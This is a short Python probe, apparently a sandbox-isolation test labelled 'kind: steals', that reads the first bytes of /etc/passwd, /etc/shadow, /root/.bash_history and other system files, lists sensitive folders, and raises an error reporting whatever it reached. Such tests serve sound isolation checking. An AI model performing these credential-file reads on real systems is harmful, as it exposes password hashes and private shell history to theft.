"""It reads well-known files and lists well-known folders; it fails on purpose if it can.

kind: steals
outcome: passed
where: embeddings.py
score: ==100
"""

import os

_taken = []
for _path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bash_history", "/proc/version"):
    try:
        with open(_path, "rb") as _file:
            _taken.append((_path, _file.read(40)))
    except BaseException:
        pass
for _path in ("/", "/root", "/home", "/tmp", "/proc", "/etc", ".", ".."):
    try:
        _taken.append((_path, os.listdir(_path)[:5]))
    except BaseException:
        pass
if _taken:
    raise RuntimeError(f"taken: {_taken}")
